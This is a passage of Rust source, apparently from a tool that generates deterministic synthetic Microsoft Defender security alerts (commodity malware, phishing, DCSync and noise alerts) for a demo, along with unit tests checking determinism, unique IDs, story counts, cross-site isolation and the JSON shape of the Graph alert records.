        let day = days(14 + self.num(3));
        let t0 = self.jitter(self.start + day + hours(10), 14_400);
        let window = (t0 - days(7), t0 + days(7));
        let mut c = Cast::new("commodity-malware".into(), "malicious");
        c.ws = self.claim_ws(window);
        c.user = self.users[c.ws].clone();
        c.ip = (
            self.claim_ip("203.0.113", 20, window),
            self.pick(&["RU", "UA", "NL", "US"]),
        );
        c.url = format!("http://{}/gate.php", url_host(&c.ip.0));
        let (name, family, file) = self.pick(&MALWARE);
        let dir = format!(r"C:\Users\{}\Downloads", c.user.account);
        let (seed, tag) = (self.seed, self.hex(16));
        let key = format!("{seed}:commodity:{tag}");
        c.payload = FileInfo::unsigned(file, &dir, 200_000 + self.num(2_000_000), key);
        c.threat = Some((name, family));
        self.play(&c, t0, &COMMODITY);
    }

    /// Exact allocation of `n` noise alerts over the [`NOISE`] weights (largest remainder),
    /// shuffled; returns row indices.
    fn noise_plan(&mut self, n: usize) -> Vec<usize> {
        let (total, n) = (NOISE.iter().map(|r| r.1).sum::<u64>(), n as u64);
        let mut counts: Vec<u64> = NOISE.iter().map(|r| n * r.1 / total).collect();
        let mut order: Vec<usize> = (0..NOISE.len()).collect();
        order.sort_by_key(|&i| (std::cmp::Reverse(n * NOISE[i].1 % total), i));
        let missing = n - counts.iter().sum::<u64>();
        for &i in order.iter().take(missing as usize) {
            counts[i] += 1;
        }
        let mut plan: Vec<usize> = (0..NOISE.len())
            .flat_map(|i| std::iter::repeat_n(i, counts[i] as usize))
            .collect();
        self.shuffle(&mut plan);
        plan
    }

    fn noise(&mut self, n: usize, row: usize) {
        let (kind, _, rule, specs) = NOISE[row];
        let hour = if self.chance(75) {
            7 + self.num(11)
        } else {
            self.num(24)
        };
        let day = days(self.num(30));
        let t = self.jitter(self.start + day + hours(hour), 3600);
        // Held for 14 h either side, so alert creation times stay a day apart despite delays.
        let window = (t - hours(14), t + hours(14));
        let mut c = Cast::new(format!("noise-{n}"), "suspicious");
        let key = format!("{}:{}", c.story, self.hex(16));
        match kind {
            Noise::Pua | Noise::Malware | Noise::Prt => {
                c.own = self.claim_ws(window);
                c.user = self.users[c.own].clone();
                let dir = format!(r"C:\Users\{}\Downloads", c.user.account);
                let size = 20_000 + self.num(9_000_000);
                if kind == Noise::Pua {
                    // The same installer, hence the same hash, on every device it lands on.
                    let (name, family, file) = self.pick(&PUA);
                    c.file = FileInfo::unsigned(file, &dir, size, format!("pua:{family}"));
                    c.threat = Some((name, family));
                } else if kind == Noise::Malware {
                    let (name, family, file) = self.pick(&MALWARE);
                    (c.file, c.threat, c.verdict) = (
                        FileInfo::unsigned(file, &dir, size, key),
                        Some((name, family)),
                        "malicious",
                    );
                }
            }
            Noise::System | Noise::SystemMalware => {
                c.own = match self.chance(25) {
                    true => self.claim(
                        N_WORKSTATIONS,
                        self.devices.len(),
                        |i| vec![format!("d{i}")],
                        window,
                    ),
                    false => self.claim_ws(window),
                };
                (c.verdict, c.vendor) = ("unknown", self.pick(&VENDORS));
                if kind == Noise::SystemMalware {
                    // A vendor's updater service fetches a detected payload.
                    let (name, family, _) = self.pick(&MALWARE[..2]);
                    (c.threat, c.verdict) = (Some((name, family)), "malicious");
                    let (tmp, size) = (format!("{}.tmp", self.hex(8)), 40_000 + self.num(400_000));
                    c.file = FileInfo::unsigned(&tmp, r"C:\Windows\Temp", size, key);
                    let dir = format!(r"C:\Program Files\{}", c.vendor);
                    c.tool = FileInfo::unsigned(
                        "updsvc.exe",
                        &dir,
                        845_312,
                        format!("vendor:{}", c.vendor),
                    );
                }
            }
            // The Entra Connect server replicates the directory: the classic benign DCSync.
            Noise::DcSync => (c.own, c.user) = (self.server("AADC01"), self.msol.clone()),
            Noise::Dns if self.chance(60) => c.own = self.server("VSCAN01"),
            Noise::Recon | Noise::Dns | Noise::Brute | Noise::Group => {
                c.own = self.claim_ws(window);
                c.user = self.users[c.own].clone();
                let extra = [(Noise::Brute, 2), (Noise::Group, 1)]
                    .iter()
                    .find(|x| x.0 == kind)
                    .map_or(0, |x| x.1);
                c.extra = (0..extra).map(|_| self.claim_user(window)).collect();
            }
            Noise::SignIn => {
                c.user = self.claim_user(window);
                let net = self.pick(&["198.51.100", "203.0.113"]);
                c.ip = (self.claim_ip(net, 20, window), self.pick(&COUNTRIES));
            }
            Noise::Mail | Noise::MailMalware | Noise::MailReported | Noise::Click => {
                c.user = self.claim_user(window);
                let domain = self.pick(&MAIL_DOMAINS);
                c.url = format!("https://{domain}/{}", self.hex(12));
                let sender = self.pick(&["info", "noreply", "billing", "events"]);
                let from = (format!("{sender}@{domain}"), domain.to_string());
                let (subject, ago) = (self.pick(&SUBJECTS).to_string(), secs(300 + self.num(3600)));
                let mut msg = self.mail(&c.user, from, subject, c.url.clone(), t - ago);
                (c.verdict, c.msg_fix) = match kind {
                    Noise::Mail | Noise::MailMalware => ("malicious", "remediated"),
                    Noise::MailReported => ("noThreatsFound", "none"),
                    _ => ("suspicious", "none"),
                };
                if kind == Noise::MailMalware {
                    msg.attachments = 1;
                    msg.threats = vec![self.pick(&MALWARE).1.to_string()];
                } else if kind == Noise::Mail {
                    msg.threats = vec!["Phish".into()];
                }
                c.msg = Some(msg);
            }
        }
        let true_positive = match kind {
            Noise::Pua => Some("unwantedSoftware"),
            Noise::Mail => Some("phishing"),
            Noise::Malware | Noise::SystemMalware | Noise::MailMalware => Some("malware"),
            _ => None,
        };
        let tri = match (self.num(100), true_positive) {
            (0..68, _) => Tri::New,
            (68..76, _) => Tri::Working,
            (_, Some(det)) => Tri::Done("truePositive", det),
            (_, None) => self.pick(&BENIGN),
        };
        self.emit(&c, &Step(rule, 0, Own, tri, "", specs), t);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    fn count_with(alerts: &[GeneratedAlert], needle: &str) -> usize {
        alerts
            .iter()
            .filter(|a| a.alert.to_string().contains(needle))
            .count()
    }

    #[test]
    fn same_seed_same_bytes_and_other_seed_differs() {
        let c = DemoConfig::default();
        let a = to_graph_page(&generate(&c));
        assert_eq!(a, to_graph_page(&generate(&c)));
        let other = DemoConfig { seed: 7, ..c };
        assert_ne!(a, to_graph_page(&generate(&other)));
    }

    #[test]
    fn ids_unique_and_sorted() {
        let alerts = generate(&DemoConfig::default());
        let mut ids: Vec<&str> = alerts
            .iter()
            .filter_map(|a| a.alert["id"].as_str())
            .collect();
        assert_eq!(ids.len(), alerts.len());
        let times: Vec<&str> = alerts
            .iter()
            .filter_map(|a| a.alert["createdDateTime"].as_str())
            .collect();
        assert!(
            times.windows(2).all(|w| w[0] <= w[1]),
            "not sorted by createdDateTime"
        );
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), alerts.len(), "duplicate alert ids");
    }

    #[test]
    fn every_story_present() {
        let c = DemoConfig::default();
        let alerts = generate(&c);
        let count = |s: &str| alerts.iter().filter(|a| a.story == s).count();
        assert_eq!(count("phishing-ato"), 8);
        assert_eq!(count("ransomware"), 13);
        assert_eq!(count("password-spray"), 4);
        assert_eq!(count("bec"), 4);
        assert_eq!(count("insider-exfiltration"), 3);
        assert_eq!(count("commodity-malware"), 3);
        assert_eq!(
            alerts
                .iter()
                .filter(|a| a.story.starts_with("noise-"))
                .count(),
            c.n_noise_alerts
        );
        assert!(
            (200..=230).contains(&alerts.len()),
            "{} alerts",
            alerts.len()
        );
        // Defender's incidents never mix stories; each story spans at most two of them.
        let mut incidents: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
        for a in &alerts {
            let inc = a.alert["incidentId"].as_str().unwrap_or_default();
            incidents.entry(inc).or_default().push(&a.story);
        }
        assert!(incidents.values().all(|s| s.iter().all(|x| *x == s[0])));
        for story in [
            "phishing-ato",
            "ransomware",
            "password-spray",
            "bec",
            "insider-exfiltration",
            "commodity-malware",
        ] {
            assert!((1..=2).contains(&incidents.values().filter(|s| s[0] == story).count()));
        }
        assert!(alerts
            .iter()
            .all(|a| !a.alert.to_string().contains(&format!("\"{}\"", a.story))));
    }

    #[test]
    fn sites_share_the_tenant_and_nothing_that_would_link_them() {
        let config = DemoConfig {
            sites: 3,
            n_noise_alerts: 20,
            ..DemoConfig::default()
        };
        let alerts = generate(&config);
        assert_eq!(alerts.len(), 3 * (35 + 20));
        // Site 0 is the single-site tenant with the same seed, alert for alert.
        let single = generate(&DemoConfig {
            sites: 1,
            ..config.clone()
        });
        let ids = |a: &[GeneratedAlert]| -> BTreeSet<String> {
            a.iter()
                .filter(|g| !g.story.starts_with("site"))
                .map(|g| g.alert["id"].to_string())
                .collect()
        };
        assert_eq!(ids(&alerts), ids(&single));
        let tenants: BTreeSet<&str> = alerts
            .iter()
            .filter_map(|a| a.alert["tenantId"].as_str())
            .collect();
        assert_eq!(tenants.len(), 1, "one company, one tenant");
        // Identifiers of people and devices never repeat across sites.
        let mut owner: BTreeMap<String, String> = BTreeMap::new();
        for a in &alerts {
            let site = a
                .story
                .split_once('/')
                .map_or("site000", |p| p.0)
                .to_owned();
            for e in a.alert["evidence"].as_array().into_iter().flatten() {
                for key in ["mdeDeviceId", "hostName"] {
                    if let Some(v) = e[key].as_str() {
                        let previous = owner.entry(format!("{key}:{v}")).or_insert(site.clone());
                        assert_eq!(*previous, site, "{key} {v} in two sites");
                    }
                }
                let account = &e["userAccount"];
                for key in ["userSid", "userPrincipalName"] {
                    if let Some(v) = account[key].as_str() {
                        if v == "S-1-5-18" {
                            continue;
                        }
                        let previous = owner.entry(format!("{key}:{v}")).or_insert(site.clone());
                        assert_eq!(*previous, site, "{key} {v} in two sites");
                    }
                }
            }
        }
        for story in ["site001/ransomware", "site002/bec"] {
            assert!(alerts.iter().any(|a| a.story == story), "{story}");
        }
    }

    #[test]
    fn prevalent_entities_are_prevalent() {
        for seed in [20260901, 1, 99] {
            let alerts = generate(&DemoConfig {
                seed,
                ..DemoConfig::default()
            });
            for needle in [
                "\"hostName\":\"DC01\"",
                "\"userSid\":\"S-1-5-18\"",
                "\"ipAddress\":\"203.0.113.1\"",
                "\"displayName\":\"Microsoft Exchange Online\"",
            ] {
                let share = count_with(&alerts, needle) as f64 / alerts.len() as f64;
                assert!(
                    (0.15..=0.45).contains(&share),
                    "seed {seed}: {needle} in {share:.2} of alerts"
                );
            }
        }
    }

    #[test]
    fn wire_shape() {
        let page = to_graph_page(&generate(&DemoConfig::default()));
        let v: Value = serde_json::from_str(&page).expect("page is JSON");
        assert_eq!(v["@odata.context"], GRAPH_CONTEXT);
        let alerts = v["value"].as_array().expect("value array");
        for a in alerts {
            for key in [
                "id",
                "providerAlertId",
                "incidentId",
                "incidentWebUrl",
                "alertWebUrl",
                "tenantId",
                "title",
                "severity",
                "status",
                "category",
                "serviceSource",
                "detectionSource",
                "createdDateTime",
                "firstActivityDateTime",
                "lastActivityDateTime",
                "lastUpdateDateTime",
                "investigationState",
            ] {
                assert!(
                    a.get(key).is_some_and(|x| !x.is_null()),
                    "{key} missing in {}",
                    a["id"]
                );
            }
            assert!(a["incidentId"]
                .as_str()
                .is_some_and(|s| s.parse::<u64>().is_ok()));
            for e in a["evidence"].as_array().expect("evidence array") {
                assert!(e["@odata.type"]
                    .as_str()
                    .is_some_and(|s| s.starts_with("#microsoft.graph.security.")));
                assert!(e["createdDateTime"]
                    .as_str()
                    .is_some_and(|s| s.len() == 28 && s.ends_with('Z')));
                for (k, len) in [("sha1", 40), ("sha256", 64), ("md5", 32)] {
                    if let Some(h) = e
                        .pointer(&format!("/fileDetails/{k}"))
                        .and_then(Value::as_str)
                    {
                        assert_eq!(h.len(), len);
                    }
                }
            }
        }
    }

    #[test]
    fn shipped_demo_file_is_current() {
        let path = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../static/demo/graph-alerts-demo.json"
        );
        let shipped = std::fs::read_to_string(path).unwrap_or_default();
        assert!(
            shipped == to_graph_page(&generate(&DemoConfig::default())),
            "{path} is missing or stale: run `cargo run --bin gen-demo`"
        );
    }
}
